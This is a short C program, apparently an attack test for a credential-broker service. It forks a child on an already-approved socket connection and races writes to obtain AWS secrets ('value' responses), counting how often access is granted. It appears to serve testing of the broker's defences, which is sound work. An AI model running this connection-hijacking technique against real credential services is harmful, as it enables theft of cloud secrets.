/*
 * An approved tool gone bad at one place: a child of it writes on its connection.
 *
 *   child_writes SOCKET REQUEST         the parent is served, then the child asks
 *   child_writes SOCKET REQUEST COUNT   both write at the same time, again and again
 */
#include "attack.h"

static const char check[] = "{\"type\":\"REQUEST\",\"action\":\"check\",\"service\":\"aws\"}";

static int race(char **argv)
{
    char line[65536];
    int fd = dial(argv[1], 0), granted = 0;
    pid_t child = fork();
    if (child == 0) {
        say(fd, argv[2]);
        _exit(0);
    }
    say(fd, check);
    waitpid(child, NULL, 0);
    say(fd, check);
    shutdown(fd, SHUT_WR);
    while (hear(fd, line, sizeof line) > 0)
        granted |= strstr(line, "\"value\"") != NULL;
    close(fd);
    return granted;
}

int main(int argc, char **argv)
{
    if (argc > 3) {
        int granted = 0, count = atoi(argv[3]);
        for (int i = 0; i < count; i++)
            granted += race(argv);
        printf("%d of %d granted\n", granted, count);
        return 0;
    }
    char line[65536];
    int fd = dial(argv[1], 0);
    say(fd, check);
    if (hear(fd, line, sizeof line) == 0 || !strstr(line, "success"))
        fail("the parent is not served");
    if (fork() == 0) {
        say(fd, argv[2]);
        show(fd);
        _exit(0);
    }
    wait(NULL);
    return 0;
}
